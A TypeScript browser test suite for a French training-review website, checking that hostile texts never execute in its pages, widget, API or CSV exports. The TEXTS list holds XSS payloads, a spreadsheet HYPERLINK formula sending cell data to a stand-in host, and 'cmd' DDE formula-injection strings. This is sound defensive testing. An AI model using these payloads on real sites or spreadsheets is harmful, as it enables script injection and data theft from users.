/** Whatever people write, in whatever output: nothing of it runs, and nothing of it is changed. */
import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import { publicDirectory } from "../../db/public-directory.ts";
import { centrePath, diplomaPath, trainingPath, withQuery } from "../../web/public/address.ts";
import { layoutFaults, SCREENS } from "../browser.ts";
import { tell } from "../reliability/tell.ts";
import type { RunningSirius } from "../running-sirius.ts";
import { cellsOf, FORMULA, formulasOf, SEPARATORS } from "../spreadsheet.ts";
import type { Host } from "./host-page.ts";
import { layText } from "./published.ts";
import { element, openHostedWorld, settled, type WidgetWorld } from "./widget-world.ts";

const TEXTS = [
  `<script>hacked()</script>`,
  `"><img src=x onerror=hacked()>`,
  `'><svg onload=hacked()>`,
  `</script><script>hacked()</script><!--`,
  `]]></style><style>*{display:none}</style>`,
  `<a href="javascript:hacked()">clique</a>`,
  `<iframe srcdoc="<script>parent.hacked()</script>">`,
  `</blockquote></article><form action="https://mechant.example"><input autofocus onfocus=hacked()>`,
  "`${hacked()}` {{hacked()}} #{hacked()} <%= hacked() %>",
  `&lt;script&gt;hacked()&lt;/script&gt; &#x3c;b&#x3e;`,
  `=HYPERLINK("https://mechant.example?"&A1;"clique")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r\n=1+1`,
  `  =1+1`,
  `\u200B\u202E=1+1`,
  `＝1+1`,
  `ok"\r\n"=1+1`,
  `;=1+1;\t=1+1,=1+1`,
  `\u202Eunisrever\u2066 isolé sans fin`,
  `\u2028\u2029 lignes`,
  `Z̴̡̢̧̛̛̛̛͎͎͎a̷l̶g̸o̵ ${"\u0301".repeat(60)}`,
  "M".repeat(590),
  "👩‍🍳🧑🏽‍🍳 فرن الخبز Խոհարար",
];
/** The texts that every other door is tried with, as a conversation would keep them. */
const CORPUS = z
  .array(z.object({ text: z.string(), times: z.int().optional() }))
  .parse(JSON.parse(readFileSync("test/hostile-texts.json", "utf8")))
  .map(({ text, times = 1 }) => text.repeat(times).slice(0, 600).toWellFormed())
  .map((text) => text.replaceAll("\0", "\uFFFD"))
  .filter((text) => text !== "");
const HOSTILE = `"><script>hacked()</script><img src=x onerror=hacked()> \u202E=1+1`;
const KEY = `a"><script>hacked()</script>`;
const OTHER = `=b'--`;
/** Pages and frames that were opened, in all tests together. */
let opened = 0;

let hosted: WidgetWorld;
let running: RunningSirius;
let browser: Browser;
let host: Host;
beforeAll(async () => {
  hosted = await openHostedWorld();
  ({ running, browser, host } = hosted);
  for (const [key, siret, texts] of [
    [KEY, "90000000000001", TEXTS],
    [OTHER, "90000000000002", CORPUS],
  ] as const) {
    await layText(running.database, {
      key,
      siret,
      cfd: "90000001",
      title: HOSTILE,
      centre: `=${HOSTILE}`,
      place: `@${HOSTILE}`,
      texts,
      reply: HOSTILE,
    });
  }
  await running.release();
}, 120_000);
afterAll(() => hosted.stop());

/** Our own policy would stop most of it: it is put aside, so that only the writing protects. */
async function defenceless(): Promise<Page> {
  const context = await browser.newContext({ viewport: SCREENS.phone, bypassCSP: true });
  await context.addInitScript(() => {
    Object.assign(window, { executed: 0, hacked: () => Object.assign(window, { executed: 1 }) });
  });
  return context.newPage();
}

async function reviewPaths(key: string): Promise<string[]> {
  const { rows } = await running.database.pool.query<{ id: string }>(
    "select r.id from review r join training t on t.id = r.training_id where t.key = $1",
    [key],
  );
  return rows.map(({ id }) => `/avis/texte/${id}`);
}

describe("in a browser without any other defence", () => {
  test("the trap itself springs, so that silence means something", async () => {
    const page = await defenceless();
    await page.goto(`${running.url}/avis/methode`);
    await page.evaluate((text) => (document.body.innerHTML = text), TEXTS[1] ?? "");
    await page.waitForFunction("executed === 1");
    expect(await page.evaluate("executed")).toBe(1);
    await page.context().close();
  });

  test("no page runs it, loses its form, or lets it out of its box", async () => {
    const siret = (await publicDirectory(running.database.pool).training(KEY))?.centre.siret ?? "";
    const frame = `/widget/${encodeURIComponent(KEY)}`;
    const paths = [
      trainingPath(KEY),
      withQuery(trainingPath(KEY), { page: 2, ordre: "critiques" }),
      ...(await reviewPaths(KEY)),
      centrePath(siret),
      diplomaPath("90000001"),
      withQuery("/avis/comparer", { a: KEY, b: OTHER }),
      withQuery("/avis", { q: HOSTILE, lieu: HOSTILE }),
      "/avis",
      "/avis/statistiques",
      withQuery("/avis/widget", { cle: KEY }),
      withQuery("/avis/widget", { cle: HOSTILE }),
      frame,
      withQuery(frame, { format: "complet", theme: HOSTILE, lang: HOSTILE }),
      `${frame}/extrait?format=complet`,
      trainingPath(HOSTILE),
    ];
    const page = await defenceless();
    const faults: string[] = [];
    for (const path of [
      ...paths,
      ...paths.map((each) => `${each}${each.includes("?") ? "&" : "?"}lang=en`),
    ]) {
      await page.goto(running.url + path);
      opened += 1;
      if ((await page.evaluate("executed")) !== 0) faults.push(`ran on ${path}`);
      if (
        await page.evaluate(() => document.querySelector("script:not([src]):not([type])") !== null)
      ) {
        faults.push(`a script on ${path}`);
      }
      if (path.includes("/extrait")) continue;
      faults.push(...(await layoutFaults(page)).map((fault) => `${path}: ${fault}`));
    }
    await page.context().close();
    expect(faults).toEqual([]);
  }, 180_000);

  test("no page of any other text of the collection runs it either", async () => {
    const pages = Array.from({ length: Math.ceil(CORPUS.length / 20) }, (_, at) =>
      withQuery(trainingPath(OTHER), { page: at + 1 }),
    );
    const page = await defenceless();
    const faults: string[] = [];
    for (const path of [...pages, ...(await reviewPaths(OTHER))]) {
      await page.goto(running.url + path, { waitUntil: "domcontentloaded" });
      opened += 1;
      if ((await page.evaluate("executed")) !== 0) faults.push(`ran on ${path}`);
    }
    await page.context().close();
    expect(faults).toEqual([]);
    tell(
      `hostile texts on the public side: ${TEXTS.length + CORPUS.length}, in titles, names and places too; pages and frames opened ${opened}, executed 0`,
    );
  }, 180_000);

  test("neither the widget nor a fragment runs it in the page of a host", async () => {
    const extract = `${running.url}/widget/${encodeURIComponent(KEY)}/extrait?format=complet`;
    const fragment = await (await fetch(extract)).text();
    const quoted = KEY.replaceAll('"', "&quot;");
    const page = await defenceless();
    await page.goto(
      host.page(element({ cle: quoted, format: "complet" }) + fragment, { strict: false }),
    );
    await settled(page);
    expect(await page.evaluate("executed")).toBe(0);
    expect(await page.locator("sirius-avis .about b").innerText()).toBe(HOSTILE);
    await page.context().close();
  });

  test("nor does the widget in a host as strict as can be, which has nothing to complain of", async () => {
    const page = await (await browser.newContext({ viewport: SCREENS.phone })).newPage();
    const complaints: string[] = [];
    page.on("console", (message) => complaints.push(message.text()));
    page.on("pageerror", (error) => complaints.push(error.message));
    await page.addInitScript(() => {
      Object.assign(window, { executed: 0, hacked: () => Object.assign(window, { executed: 1 }) });
    });
    for (const key of [KEY, OTHER]) {
      const cle = key.replaceAll('"', "&quot;");
      await page.goto(host.page(element({ cle, format: "complet" })));
      await settled(page);
      expect(await page.evaluate("executed")).toBe(0);
    }
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test("every text is shown as it was written, to the letter", async () => {
    const page = await defenceless();
    const read: string[] = [];
    for (const path of [trainingPath(KEY), withQuery(trainingPath(KEY), { page: 2 })]) {
      await page.goto(running.url + path);
      read.push(
        ...(await page
          .locator("article > blockquote")
          .evaluateAll((all) => all.map((each) => each.textContent ?? ""))),
      );
    }
    await page.context().close();
    // HTML has no carriage return of its own.
    const written = TEXTS.map((text) => text.replaceAll("\r\n", "\n").replaceAll("\r", "\n"));
    expect(read.map((text) => text.replaceAll("\r", "\n")).toSorted()).toEqual(written.toSorted());
  });
});

test("the data for search engines hold it as a plain text", async () => {
  const text = await (await fetch(running.url + trainingPath(KEY))).text();
  const [, data = ""] = /<script type="application\/ld\+json">(.*?)<\/script>/s.exec(text) ?? [];
  const course = JSON.parse(data);
  expect(course.name).toBe(HOSTILE);
  expect(course.review).toHaveLength(20);
  for (const { reviewBody } of course.review) expect(TEXTS).toContain(reviewBody);
});

test("the read API and the data of the widget hold every text as it was written, as JSON and nothing else", async () => {
  const path = `/api/v1/formations/${encodeURIComponent(OTHER)}/avis?page_size=100`;
  const answer = await fetch(running.url + path);
  expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
  expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
  const { data }: { data: { texte: string }[] } = JSON.parse(await answer.text());
  expect(data.map(({ texte }) => texte).toSorted()).toEqual(CORPUS.toSorted());
  const widget = await fetch(`${running.url}/widget/${encodeURIComponent(OTHER)}/donnees`);
  expect(widget.headers.get("x-content-type-options")).toBe("nosniff");
  const { avis }: { avis: { texte: string }[] } = JSON.parse(await widget.text());
  for (const { texte } of avis) expect(CORPUS).toContain(texte);
});

async function fileOf(name: string): Promise<string> {
  return (await fetch(`${running.url}/api/v1/export/${name}`)).text();
}

const bare = (text: string): string => text.replaceAll("'", "");

describe("in a spreadsheet", () => {
  test.each(["avis.csv", "scores.csv"])(
    "no cell of %s is a formula, whatever separates cells there",
    async (name) => {
      const text = await fileOf(name);
      const cells = SEPARATORS.reduce((sum, each) => sum + cellsOf(text, each).length, 0);
      const formulas = formulasOf(text);
      tell(
        `${name}: ${cells} cells, as spreadsheets read them that split at commas, semicolons or tabs; formulas ${formulas.length}`,
      );
      expect(formulas).toEqual([]);
      expect(cellsOf(text, ",").filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(0);
    },
  );

  test("every text is whole, but for apostrophes before what looks like a formula", async () => {
    const rows: Record<string, string>[] = parse(await fileOf("avis.csv"), { columns: true });
    const read = rows
      .filter((row) => row["cle_ministere_educatif"] === KEY)
      .map(({ texte = "" }) => texte);
    expect(read.map(bare).toSorted()).toEqual(TEXTS.map(bare).toSorted());
    expect(read.filter((text) => FORMULA.test(text))).toEqual([]);
  });
});
